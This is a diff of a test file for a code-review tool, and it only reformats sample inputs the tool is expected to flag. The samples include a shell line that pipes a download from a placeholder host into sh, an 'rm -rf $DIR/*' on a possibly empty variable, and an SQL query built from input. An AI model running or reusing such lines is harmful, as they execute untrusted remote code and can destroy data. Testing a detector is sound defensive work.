@@ -78,7 +78,15 @@ describe("code-review", () => {
       "5 low loose-equality",
     ]);
     const shell = await review({
-      input: ["#!/bin/sh", "cd $1", "rm -rf $DIR/*", "curl -s https://x.example/i | sh", "now=`date`", '[ "$now" == x ] && echo "$now"', "cat list | wc -l"].join("\n"),
+      input: [
+        "#!/bin/sh",
+        "cd $1",
+        "rm -rf $DIR/*",
+        "curl -s https://x.example/i | sh",
+        "now=`date`",
+        '[ "$now" == x ] && echo "$now"',
+        "cat list | wc -l",
+      ].join("\n"),
     });
     expect(shell.places).toEqual([
       "3 critical rm-variable",
@@ -106,7 +114,7 @@ describe("code-review", () => {
             'const doc = `console.log(${JSON.stringify({ a: "}" })}) == var ${"nested `tick`".length}`;',
             "const half = (a: number, b: number) => a / b / 2;",
             "export async function load(id: string | null) {",
-            "  if (id == null) return <View title=\"x == y\">Don't eval(it) == var {half(1, 2)}</View>;",
+            '  if (id == null) return <View title="x == y">Don\'t eval(it) == var {half(1, 2)}</View>;',
             "  const rows = await sql`SELECT * FROM users WHERE id = ${id}`;",
             "  while ((match = pattern.exec(text)) !== null) half(1, 2);",
             "  void fetch('/seen');",
